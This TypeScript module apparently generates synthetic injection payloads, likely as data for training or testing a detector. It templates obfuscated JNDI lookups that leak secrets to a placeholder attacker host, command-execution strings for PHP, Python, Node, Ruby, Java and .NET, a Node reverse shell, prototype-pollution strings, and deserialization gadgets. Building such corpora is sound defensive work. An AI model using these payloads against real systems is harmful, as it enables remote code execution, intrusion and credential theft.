import {
  altered,
  digits,
  family,
  integer,
  letters,
  maybe,
  mostly,
  oneOf,
  type Part,
  repeat,
  same,
  text,
  type Write,
  words
} from '../template.ts';
import {
  ALPHANUMERIC,
  attackerHost,
  attackerUrl,
  base64,
  inventedWord,
  LOWER,
  lowerWord,
  mixCase,
  port,
  token,
  UPPER
} from '../vocabulary/shared.ts';
import { command, simpleCommand } from '../vocabulary/systems.ts';

const protocol = mostly(
  ['ldap', 6],
  ['rmi', 2],
  ['ldaps', 1],
  ['dns', 2],
  ['iiop', 0.4],
  ['corba', 0.2],
  ['nis', 0.2],
  ['nds', 0.2],
  ['http', 0.4]
);
/** A letter behind a lookup that falls back to it. */
function lookedUp(
  letter: string,
  rng: { int: (a: number, b: number) => number; pick: <T>(items: readonly T[]) => T; chance: (p: number) => boolean }
): string {
  const name = Array.from({ length: rng.int(0, 5) }, () => LOWER[rng.int(0, 25)]!).join('');
  return rng.pick([
    `\${lower:${letter}}`,
    `\${upper:${letter}}`,
    `\${::-${letter}}`,
    `\${env:${name.toUpperCase()}:-${letter}}`,
    `\${sys:${name}:-${letter}}`,
    `\${${name}:${name}:-${letter}}`,
    `\${date:'${letter}'}`,
    `\${:-${letter}}`
  ]);
}
const hidden = (part: Part, share: number): Write =>
  altered(part, (written, rng) =>
    Array.from(written, (letter) => (rng.chance(share) ? lookedUp(letter, rng) : letter)).join('')
  );
const leak = oneOf(
  '${env:USER}',
  '${sys:java.version}',
  '${hostName}',
  '${env:AWS_SECRET_ACCESS_KEY}',
  '${sys:user.name}',
  '${java:os}',
  '${env:HOSTNAME}',
  '${ctx:loginId}'
);
const address = text`${oneOf('//', '//', '//', ':', '/')}${maybe(text`${leak}.`, 0.15)}${attackerHost}${maybe(text`:${port}`)}/${oneOf(letters(ALPHANUMERIC, 1, 10), text`Basic/Command/Base64/${altered(command, base64)}`, '', text`${lowerWord}?${leak}`, 'Exploit', text`#${lowerWord}`)}`;
const around = mostly(
  ['', 6],
  [lowerWord, 0.6],
  [text`${inventedWord}/`, 0.3],
  ["'", 0.2],
  ['"', 0.2],
  [text`Mozilla/5.0 ${leak} `, 0.1]
);

export const lookupTemplates = family('other-injection/lookup', {
  plain: text`${around}\${jndi:${protocol}:${address}}${maybe("'", 0.05)}`,
  'lookup-per-letter': text`${around}\${${hidden('jndi', 1)}:${hidden(protocol, 0.5)}${oneOf(':', ':', '${::-:}', '${lower::}')}${address}}`,
  'some-letters': text`${around}\${${hidden('jndi', 0.4)}:${hidden(protocol, 0.4)}:${address}}`,
  'mixed-case': text`${around}\${${altered('jndi', mixCase)}:${altered(protocol, mixCase)}:${address}}`,
  'environment-default': text`\${\${env:${letters(UPPER, 3, 8)}:-j}ndi\${env:${letters(UPPER, 3, 8)}:-:}\${env:${letters(UPPER, 3, 8)}:-l}dap${address}}`,
  'unicode-letter': text`\${jnd\${upper:\u0131}:${protocol}:${address}}`,
  'other-lookups': text`${around}\${${oneOf('env:', 'sys:', 'java:', 'main:', 'bundle:', 'script:javascript:', 'url:UTF-8:', 'dns:address|', 'file:UTF-8:', 'base64Decoder:', 'k8s:', 'docker:', 'spring:', 'ctx:', 'xml:', 'const:')}${oneOf(words('AWS_ACCESS_KEY_ID DB_PASSWORD java.version PATH HOME SECRET_KEY user.name os.name vm hw containerId accountName'), text`java.lang.Runtime.getRuntime().exec('${simpleCommand}')`, text`${attackerUrl}`, '/etc/passwd')}}`,
  unclosed: text`\${jndi:${protocol}:${address}`
});

const phpCall = words(
  'system exec passthru shell_exec eval assert phpinfo popen proc_open base64_decode file_get_contents include create_function call_user_func print_r highlight_file readfile scandir pcntl_exec file_put_contents var_dump'
);
const phpArgument = oneOf(
  text`'${simpleCommand}'`,
  text`"${command}"`,
  '$_GET[0]',
  "$_GET['cmd']",
  '$_POST[x]',
  "'/etc/passwd'",
  '',
  text`base64_decode('${altered(simpleCommand, base64)}')`,
  text`chr(${integer(97, 122)}).chr(${integer(97, 122)})`,
  '__FILE__',
  'current(getallheaders())',
  'end(get_defined_vars()["_GET"])'
);
const pythonCall = oneOf(
  text`__import__('os').${words('system popen listdir')}('${oneOf(simpleCommand, command)}')${maybe('.read()')}`,
  text`exec("import os;os.system('${simpleCommand}')")`,
  text`eval(compile('${lowerWord}','','exec'))`,
  text`open('/etc/passwd').read()`,
  text`__import__('subprocess').check_output('${simpleCommand}',shell=True)`,
  text`[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='catch_warnings'][0]()._module.__builtins__['__import__']('os').system('${simpleCommand}')`,
  text`getattr(__import__('os'),'system')('${simpleCommand}')`,
  '().__class__.__bases__[0].__subclasses__()',
  text`print(__import__('os').environ)`,
  text`__builtins__.__dict__['__import__']('os').system('${simpleCommand}')`,
  text`breakpoint()`,
  text`__import__('time').sleep(${integer(1, 30)})`,
  text`__import__('socket').gethostbyname('${attackerHost}')`
);
const nodeCall = oneOf(
  text`require('child_process').${words('exec execSync spawnSync spawn')}('${oneOf(simpleCommand, command)}')${maybe('.toString()')}`,
  text`global.process.mainModule.require('child_process').execSync('${simpleCommand}')`,
  text`res.end(require('fs').readdirSync('.').toString())`,
  text`require('fs').readFileSync('/etc/passwd','utf8')`,
  text`process.exit(${integer(0, 9)})`,
  text`process.kill(process.pid)`,
  'process.env',
  text`new Function('return process')().mainModule.require('os').hostname()`,
  text`while(1)`,
  text`setTimeout(function(){},${integer(1000, 30_000)})`,
  text`response.end('${lowerWord}')`,
  text`this.constructor.constructor('return process')().exit()`,
  text`import('child_process').then(m=>m.execSync('${simpleCommand}'))`,
  text`(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var client=new net.Socket();client.connect(${port},"${attackerHost}",function(){client.pipe(sh.stdin);});})()`
);
const breakOut = mostly(
  ['', 3],
  ["'", 1],
  ['"', 1],
  ["';", 1],
  ['";', 1],
  [');', 0.6],
  ["');", 0.6],
  ["'.", 0.8],
  ['".', 0.6],
  ['1;', 0.6],
  ["'+", 0.7],
  ['"+', 0.4],
  ['}', 0.3],
  ['${', 0.4],
  ['{${', 0.4],
  ['1)', 0.2],
  [';', 0.5],
  ['\n', 0.2]
);
const after = mostly(
  ['', 3],
  [';', 1.5],
  ['//', 1],
  [';//', 1],
  ["+'", 0.6],
  [".'", 0.7],
  ['."', 0.5],
  ['}', 0.5],
  ['}}', 0.5],
  ['#', 0.5],
  [';?>', 0.2]
);

export const codeTemplates = family('other-injection/code', {
  php: text`${breakOut}${phpCall}(${phpArgument})${after}`,
  'php-tag': text`${maybe(lowerWord)}<?${oneOf('php', '=', '')} ${maybe('@')}${phpCall}(${phpArgument})${maybe(';')}${maybe(' ?>')}`,
  'php-interpolation': text`${oneOf('{${', '${@', '${', '{${@', '${${')}${oneOf(text`${phpCall}(${phpArgument})`, text`print(md5(${digits(6)}))`, text`die(md5(${digits(5)}))`)}${oneOf('}}', '}', '}\\')}`,
  'php-dynamic': oneOf(
    text`$_=${repeat(text`"${letters('!"#$%&()*+,-./:;<=>?@[]^_`{|}~', 1, 5)}"^"${letters('!"#$%&()*+,-./:;<=>?@[]^_`{|}~', 1, 5)}"`, 1, 3, '.')};$_();`,
    text`(~${letters('\u008f\u0097\u0098\u0086\u008c\u009e', 4, 8)})();`,
    text`$a='${words('sys ass ev ex')}'.'${words('tem ert al ec')}';$a(${phpArgument});`,
    text`array_map('${words('assert system eval')}',array($_POST['${lowerWord}']));`,
    text`preg_replace('/.*/e','${phpCall}(${phpArgument})','')`,
    text`usort($_GET,'${words('system assert')}');`,
    text`\`${simpleCommand}\`;`
  ),
  'php-option-overrides': text`-d${maybe(' ')}allow_url_include=${words('1 on')}${maybe(' ')}-d${maybe(' ')}auto_prepend_file=${oneOf('php://input', attackerUrl)}`,
  python: text`${breakOut}${pythonCall}${after}`,
  node: text`${breakOut}${nodeCall}${after}`,
  ruby: text`${breakOut}${oneOf(text`Kernel.${words('system exec')}('${simpleCommand}')`, text`IO.popen("${simpleCommand}").read`, text`%x(${simpleCommand})`, text`eval("${lowerWord}")`, text`Object.const_get("Kernel").send(:system,"${simpleCommand}")`, text`File.read('/etc/passwd')`)}${after}`,
  java: text`${breakOut}${oneOf(text`java.lang.Runtime.getRuntime().exec("${oneOf(simpleCommand, command)}")`, text`new ProcessBuilder("${words('bash sh cmd')}","-c","${simpleCommand}").start()`, text`Runtime.getRuntime().exec(new String[]{"/bin/sh","-c","${simpleCommand}"})`, text`class.module.classLoader.resources.context.parent.pipeline.first.${words('pattern suffix directory prefix fileDateFormat')}=${oneOf(lowerWord, '.jsp', 'webapps/ROOT')}`, text`@groovy.transform.ASTTest(value={assert "${simpleCommand}".execute()})`, text`#{''.class.forName('java.lang.Runtime')}`)}${after}`,
  dotnet: text`${breakOut}${oneOf(text`System.Diagnostics.Process.Start("cmd","/c ${simpleCommand}")`, text`response.write(${digits(5)}*${digits(5)})`, text`eval(request.item["${lowerWord}"],"unsafe")`, text`CreateObject("WScript.Shell").Run("${simpleCommand}")`, text`Server.Execute("/${lowerWord}.asp")`)}${after}`,
  'lua-perl': text`${breakOut}${oneOf(text`os.execute("${simpleCommand}")`, text`io.popen('${simpleCommand}'):read('*a')`, text`system("${simpleCommand}")`, text`qx/${simpleCommand}/`, text`exec "${simpleCommand}"`, text`print \`${simpleCommand}\``)}${after}`,
  'arithmetic-echo': text`${breakOut}${words('print echo response.write puts var_dump print_r sprintf')}${oneOf('(', ' ')}${oneOf(text`md5(${digits(6)})`, text`${digits(4)}*${digits(4)}`, text`'${letters(LOWER, 2, 4)}'.'${letters(LOWER, 2, 4)}'`, text`str_repeat('${letters(LOWER, 1)}',${integer(2, 99)})`)}${oneOf(')', '')}${oneOf(';', ';//', ";'", ');')}`,
  'json-constructor': text`{"${oneOf('@type', '@class', '$type', '__type', 'class', '!!')}":"${oneOf('com.sun.rowset.JdbcRowSetImpl', 'java.net.Inet4Address', 'org.springframework.context.support.ClassPathXmlApplicationContext', 'System.Windows.Data.ObjectDataProvider, PresentationFramework', 'java.lang.AutoCloseable', 'org.apache.xbean.propertyeditor.JndiConverter', 'System.Configuration.Install.AssemblyInstaller')}","${oneOf('dataSourceName', 'val', 'asText', 'MethodName')}":"${oneOf(text`${words('ldap rmi')}://${attackerHost}/${token}`, attackerUrl, 'Start')}"${maybe(',"autoCommit":true')}}`,
  'prototype-json': text`{"${oneOf('__proto__', '__proto__', 'constructor')}":${maybe('{"prototype":')}{"${oneOf('isAdmin', 'admin', 'role', 'polluted', 'shell', 'NODE_OPTIONS', 'outputFunctionName', 'status', 'exposedHeaders', lowerWord)}":${oneOf('true', '1', text`"${lowerWord}"`, text`"x;process.mainModule.require('child_process').exec('${simpleCommand}');x"`, '"admin"', text`"--require /proc/self/environ"`)}}}${maybe('}')}`,
  'prototype-parameter': text`${maybe(lowerWord)}${oneOf('__proto__[', 'constructor[prototype][', '__proto__.', 'constructor.prototype.', '[__proto__][', '__pro__proto__to__[')}${oneOf('isAdmin', 'admin', 'polluted', 'src', 'transport_url', lowerWord)}${maybe(']')}=${oneOf('true', '1', 'polluted', lowerWord, 'data:,alert(1)//')}`,
  'prototype-key': oneOf(
    text`__proto__[${lowerWord}]`,
    text`constructor[prototype][${lowerWord}]`,
    text`${lowerWord}.__proto__.${lowerWord}`,
    text`${lowerWord}[constructor][prototype][${lowerWord}]`,
    text`__proto__.${lowerWord}`,
    text`constructor.prototype.${lowerWord}`,
    text`${lowerWord}.constructor.prototype.${lowerWord}`
  ),
  'format-string': text`${maybe(lowerWord)}${repeat(words('%s %x %n %p %08x %d %hn %lx %hhn'), 4, 30, oneOf('', '', '.', '|', ' '))}`,
  'format-string-positional': text`${maybe(text`${letters(UPPER, 4)}`)}${repeat(text`%${integer(1, 9)}$${words('s x n p hn lx')}`, 1, 8, oneOf('', '.', ' '))}`,
  'format-fields': text`${maybe(text`${lowerWord} `)}{${oneOf('0', 'user', 'self', 'event', lowerWord)}.__class__${oneOf('.__init__.__globals__', '.__mro__[1].__subclasses__', text`.__init__.__globals__[${lowerWord}]`, '.__dict__', '.__init__.__globals__[SECRET_KEY]')}}`
});

const phpProperty = text`s:${integer(2, 20)}:"${maybe('\u0000*\u0000')}${lowerWord}";${oneOf(text`s:${integer(2, 40)}:"${oneOf(simpleCommand, lowerWord, '<?php phpinfo();?>', '/etc/passwd')}";`, 'b:1;', text`i:${integer(0, 99)};`, 'N;')}`;
const className = oneOf(
  'Monolog\\Handler\\SyslogUdpHandler',
  'GuzzleHttp\\Psr7\\FnStream',
  'Illuminate\\Broadcasting\\PendingBroadcast',
  'Zend_Log',
  'stdClass',
  'User',
  'Logger',
  'Example',
  'CacheHandler',
  'Swift_ByteStream_FileByteStream',
  text`${lowerWord}\\${lowerWord}`,
  lowerWord
);
const randomBytes = letters(ALPHANUMERIC + '+/', 16, 120);
export const serialTemplates = family('other-injection/serialised', {
  'php-object': same(
    className,
    (name) =>
      text`O:${mostly([String(name.length), 5], [`+${name.length}`, 0.5])}:"${name}":${integer(1, 5)}:{${repeat(phpProperty, 1, 4)}}`
  ),
  'php-nested': text`a:${integer(1, 3)}:{i:0;${same(className, (name) => text`O:${String(name.length)}:"${name}":1:{${phpProperty}}`)}i:1;i:${integer(0, 9)};}`,
  'java-gadget': text`\u00ac\u00ed\u0000\u0005sr\u0000${oneOf('2sun.reflect.annotation.AnnotationInvocationHandler', '\u0011java.util.HashMap', '.org.apache.commons.collections.functors.InvokerTransformer', '*com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl')}${randomBytes}`,
  'java-xml': oneOf(
    text`<java version="1.${integer(4, 8)}.0" class="java.beans.XMLDecoder"><object class="java.lang.${oneOf('ProcessBuilder', 'Runtime')}"><array class="java.lang.String" length="1"><void index="0"><string>${simpleCommand}</string></void></array><void method="start"/></object></java>`,
    text`<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>${simpleCommand}</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>`,
    text`<map><entry><jdk.nashorn.internal.objects.NativeString><value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data"/></jdk.nashorn.internal.objects.NativeString><string>${lowerWord}</string></entry></map>`
  ),
  'python-pickle': oneOf(
    text`cos${'\n'}system${'\n'}(S'${simpleCommand}'${'\n'}tR.`,
    text`cposix${'\n'}system${'\n'}p${integer(0, 3)}${'\n'}(S'${command}'${'\n'}tR.`,
    text`gASV${randomBytes}${oneOf('cG9zaXg', 'c3lzdGVt', 'c3VicHJvY2Vzcw')}${randomBytes}`,
    text`\u0080\u0004\u0095${letters(ALPHANUMERIC, 4)}\u008c\u0005posix\u0094\u008c\u0006system\u0094\u0093\u0094\u008c${simpleCommand}\u0094\u0085\u0094R\u0094.`,
    text`c__builtin__${'\n'}eval${'\n'}(S'__import__("os").system("${simpleCommand}")'${'\n'}tR.`
  ),
  dotnet: oneOf(
    text`AAEAAAD/////${randomBytes}`,
    text`{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c ${simpleCommand}"]},"ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}`,
    text`<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:System="clr-namespace:System;assembly=mscorlib" xmlns:Diag="clr-namespace:System.Diagnostics;assembly=system"><ObjectDataProvider ObjectType="{x:Type Diag:Process}" MethodName="Start"><ObjectDataProvider.MethodParameters><System:String>cmd</System:String><System:String>/c ${simpleCommand}</System:String>`
  ),
  yaml: oneOf(
    text`!!python/object/apply:${words('os.system subprocess.Popen subprocess.check_output os.popen')} ["${simpleCommand}"]`,
    text`!!python/object/new:os.system [${simpleCommand}]`,
    text`!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["${attackerUrl}"]]]]`,
    text`--- !ruby/object:Gem::${words('Installer Requirement SpecFetcher')}${'\n'}i: x`,
    text`!!python/module:${lowerWord}`,
    text`!ruby/object:${lowerWord}::${lowerWord} {}`,
    text`!!js/function "function(){${words('process.exit() console.log(1)')}}()"`,
    text`${lowerWord}: !!python/name:builtins.eval`,
    text`!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: "${words('rmi ldap')}://${attackerHost}/${token}", autoCommit: true}`
  ),
  'node-serialize': text`{"${lowerWord}":"_$$ND_FUNC$$_function(){${oneOf(text`require('child_process').exec('${simpleCommand}',function(e,o){console.log(o)})`, text`return process.exit()`)}}()"}`,
  'ruby-marshal': text`\u0004\b${oneOf('o:', 'U:', '[', '{')}\u0006:${oneOf('Gem::Requirement', 'ActiveSupport::Deprecation', 'ERB')}${randomBytes}${maybe(text`%x(${simpleCommand})`)}`
});
